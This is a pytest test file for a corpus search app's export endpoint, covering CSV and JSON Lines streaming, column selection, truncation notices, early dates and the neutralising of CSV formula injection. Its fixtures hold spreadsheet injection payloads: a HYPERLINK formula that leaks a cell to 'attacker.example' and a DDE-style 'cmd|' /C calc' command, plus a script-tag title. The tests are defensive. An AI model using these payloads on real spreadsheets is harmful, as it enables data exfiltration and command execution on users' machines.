"""/api/export: every matching document as CSV or JSON Lines, streamed, never truncated silently."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from typing import Any

import pytest

from corpus.web import create_app
from corpus.web.params import EXPORT_FIELDS

QUERIES = ["", "q=oil", "q=rates+OR+grain", "author=Anna+Reed&author=Tom+Baker", "region=United+States&sort=oldest",
           "from=1987&to=1987-12", "q=nothingmatchesthis", "source=Farm+Weekly&q=tariffs+OR+grain"]


def csv_rows(response: Any) -> list[dict[str, str]]:
    text = response.get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(text, newline="")))


def jsonl_rows(response: Any) -> list[dict[str, Any]]:
    return [json.loads(line) for line in response.get_data(as_text=True).splitlines()]


@pytest.mark.parametrize("params", QUERIES)
def test_csv_and_jsonl_hold_every_match_in_search_order(mini_client, params):
    search = mini_client.get(f"/api/search?{params}&per_page=100").get_json()
    as_csv = mini_client.get(f"/api/export?{params}")
    assert as_csv.status_code == 200 and as_csv.is_streamed
    assert as_csv.mimetype == "text/csv" and "attachment" in as_csv.headers["Content-Disposition"]
    rows = csv_rows(as_csv)
    assert len(rows) == search["total"] == int(as_csv.headers["X-Total-Count"]) == int(as_csv.headers["X-Export-Rows"])
    assert as_csv.headers["X-Export-Truncated"] == "false" and "X-Export-Cap" not in as_csv.headers
    assert [r["id"] for r in rows] == [h["id"] for h in search["hits"]]
    lines = jsonl_rows(mini_client.get(f"/api/export?{params}&format=jsonl"))
    assert [r["id"] for r in lines] == [h["id"] for h in search["hits"]]


def test_csv_has_a_header_and_readable_multi_valued_cells(mini_client):
    response = mini_client.get("/api/export?q=oil")
    text = response.get_data(as_text=True)
    assert text.splitlines()[0] == ",".join(EXPORT_FIELDS)
    rows = {r["id"]: r for r in csv_rows(response)}
    glut = rows["wire-oil-glut"]
    assert glut["author"] == "Anna Reed; Tom Baker" and glut["region"] == "United States"
    assert rows["wire-oil-prices"]["region"] == "Saudi Arabia; United States"
    assert glut["date"] == "1987-03-15T00:00:00Z" and glut["source"] == "Reuters" and float(glut["score"]) > 0
    article = mini_client.get("/api/articles/wire-oil-glut").get_json()
    assert glut["body"] == article["body"] and "\n\n" in glut["body"]  # paragraphs survive inside a quoted cell
    assert glut["url"] == "" and glut["category"] == ""  # missing values are empty cells, never "None"


def test_jsonl_keeps_lists_and_nulls(mini_client):
    rows = {r["id"]: r for r in jsonl_rows(mini_client.get("/api/export?format=jsonl"))}
    assert len(rows) == 12
    assert rows["wire-oil-glut"]["author"] == ["Anna Reed", "Tom Baker"]
    assert rows["opinion-undated"]["date"] is None and rows["opinion-unsigned"]["author"] == []
    assert rows["opinion-xss"]["title"].startswith("<script>")  # data, not markup: JSON carries it as text
    assert set(rows["wire-corn"]) == set(EXPORT_FIELDS)


def test_fields_choose_and_order_the_columns(mini_client):
    response = mini_client.get("/api/export?q=oil&fields=title,id&fields=date")
    assert response.get_data(as_text=True).splitlines()[0] == "title,id,date"
    assert [list(r) for r in csv_rows(response)] == [["title", "id", "date"]] * 3
    lines = jsonl_rows(mini_client.get("/api/export?format=jsonl&fields=id,author"))
    assert all(list(r) == ["id", "author"] for r in lines)


def test_bom_for_spreadsheets_is_optional(mini_client):
    assert not mini_client.get("/api/export?q=oil").get_data().startswith(b"\xef\xbb\xbf")
    with_bom = mini_client.get("/api/export?q=oil&bom=true").get_data()
    assert with_bom.startswith(b"\xef\xbb\xbfid,")
    assert len(list(csv.DictReader(io.StringIO(with_bom.decode("utf-8-sig"))))) == 3


@pytest.fixture(scope="module")
def capped_client(mini_settings: Any) -> Any:
    return create_app(replace(mini_settings, export_cap=5)).test_client()


def test_a_cap_is_announced_in_headers_and_in_the_last_csv_line(capped_client):
    response = capped_client.get("/api/export")
    assert response.headers["X-Export-Cap"] == "5" and response.headers["X-Export-Truncated"] == "true"
    assert response.headers["X-Total-Count"] == "12" and response.headers["X-Export-Rows"] == "5"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert rows[0] == list(EXPORT_FIELDS) and len(rows) == 1 + 5 + 1
    last = rows[-1]
    assert len(last) == 1 and last[0].startswith("# export stopped") and "5 of 12" in last[0]
    assert "CORPUS_EXPORT_CAP" in last[0]


def test_a_cap_is_announced_in_the_last_jsonl_line(capped_client):
    lines = jsonl_rows(capped_client.get("/api/export?format=jsonl"))
    assert len(lines) == 6 and all("id" in r for r in lines[:5])
    note = lines[-1]["export_truncated"]
    assert (note["cap"], note["rows"], note["total"]) == (5, 5, 12) and "narrow" in note["message"]


def test_a_cap_that_is_not_reached_changes_nothing(capped_client):
    response = capped_client.get("/api/export?q=oil")
    assert response.headers["X-Export-Cap"] == "5" and response.headers["X-Export-Truncated"] == "false"
    assert len(csv_rows(response)) == 3
    assert not response.get_data(as_text=True).rstrip().splitlines()[-1].startswith("# export stopped")


# ----- formulas (CSV injection) and dates

FORMULA_TITLES = {
    "hyperlink.txt": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "plus.txt": "+SUM(1,2) and more",
    "minus.txt": "-2+3 is a formula to a spreadsheet",
    "at.txt": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plain.txt": "An ordinary title",
}


@pytest.fixture(scope="module")
def formula_client(tmp_path_factory: pytest.TempPathFactory) -> Any:
    from corpus.ingest import ingest
    from support import write_corpus

    tmp = tmp_path_factory.mktemp("formulas")
    data, settings = write_corpus(tmp, {
        name: f"Title: {title}\nSource: =cmd source\n\n=1+1 starts this body.\n" for name, title in FORMULA_TITLES.items()})
    report = ingest([data], settings, progress=False)
    assert report.exit_code == 0, report.summary()
    return create_app(settings).test_client()


def test_csv_cells_that_start_like_a_formula_get_a_leading_apostrophe(formula_client):
    rows = {r["id"]: r for r in csv_rows(formula_client.get("/api/export?q=&fields=id,title,source,score,body"))}
    assert len(rows) == len(FORMULA_TITLES)
    for name, title in FORMULA_TITLES.items():
        row = rows[name.removesuffix(".txt")]
        expected = title if name == "plain.txt" else "'" + title
        assert row["title"] == expected
        assert row["source"] == "'=cmd source" and row["body"].startswith("'=1+1 starts")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())


def test_formulas_keep_writes_cells_as_they_came_and_jsonl_is_never_changed(formula_client):
    kept = {r["id"]: r for r in csv_rows(formula_client.get("/api/export?formulas=keep&fields=id,title,source"))}
    assert kept["hyperlink"]["title"] == FORMULA_TITLES["hyperlink.txt"] and kept["plus"]["source"] == "=cmd source"
    lines = {r["id"]: r for r in jsonl_rows(formula_client.get("/api/export?format=jsonl&fields=id,title"))}
    assert lines["minus"]["title"] == FORMULA_TITLES["minus.txt"]


def test_numbers_are_numbers_and_tabs_and_carriage_returns_are_neutralised_too():
    from corpus.search.serialize import csv_cells

    record = {"score": -1.5, "n": 3, "tab": "\tcmd", "cr": "\r=1", "list": ["=a", "b"], "text_number": "-1.5",
              "inside": "a=b", "none": None}
    assert csv_cells(record) == ["-1.5", "3", "'\tcmd", "'\r=1", "'=a; b", "'-1.5", "a=b", ""]
    assert csv_cells(record, keep_formulas=True) == ["-1.5", "3", "\tcmd", "\r=1", "=a; b", "-1.5", "a=b", ""]


def test_dates_before_the_year_1000_keep_four_digit_years(mini_service, mini_app):
    from datetime import date, datetime

    from corpus.search.serialize import csv_cells, export_record, iso
    from corpus.search.types import SearchRequest

    assert iso(datetime(1, 1, 1)) == "0001-01-01T00:00:00Z"
    assert iso(datetime(987, 6, 5, 4, 3, 2)) == "0987-06-05T04:03:02Z"
    assert iso(date(1, 1, 1)) == "0001-01-01"
    hit = replace(mini_service.search(SearchRequest(q="oil")).hits[0], date=datetime(1, 1, 1))
    assert csv_cells(export_record(hit, None, ("id", "date")))[1] == "0001-01-01T00:00:00Z"
    with mini_app.test_request_context("/api/search"):
        from corpus.search.serialize import hit_json

        assert hit_json(hit)["date"] == "0001-01-01T00:00:00Z"
